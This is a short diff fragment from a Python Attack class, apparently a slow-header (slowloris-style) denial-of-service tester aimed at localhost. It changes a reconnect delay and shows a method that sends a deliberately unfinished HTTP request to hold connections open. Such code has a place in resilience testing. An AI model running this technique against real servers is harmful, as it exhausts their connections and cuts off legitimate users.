@@ -92,7 +92,7 @@ class Attack:
                 finally:
                     self.open[kind] -= 1
                     writer.transport.abort()
-            await asyncio.sleep(1)
+            await asyncio.sleep(5)
 
     async def _stall(self, reader, writer) -> None:
         writer.write(b"GET /api/gallery HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
